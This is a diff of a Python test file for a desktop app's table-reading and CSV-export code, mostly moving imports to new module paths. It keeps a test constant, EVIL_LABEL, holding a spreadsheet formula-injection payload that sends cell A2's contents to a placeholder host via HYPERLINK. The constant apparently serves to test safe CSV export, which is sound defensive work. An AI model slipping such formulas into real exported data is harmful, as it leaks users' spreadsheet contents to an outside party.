@@ -9,11 +9,11 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from desktop_app.core import atomic
-from desktop_app.core.data import read_table
-from desktop_app.core.errors import DataError, StudioError
-from desktop_app.core.inference import predict_frame
-from desktop_app.core.predict_file import predict_file, predict_to, write_frame_csv
+from desktop_app.core.disk import atomic
+from desktop_app.core.data.tables import read_table
+from desktop_app.core.base.errors import DataError, StudioError
+from desktop_app.core.predict.inference import predict_frame
+from desktop_app.core.predict.predict_file import predict_file, predict_to, write_frame_csv
 
 EVIL_LABEL = '=HYPERLINK("http://x?"&A2,"y")'
 
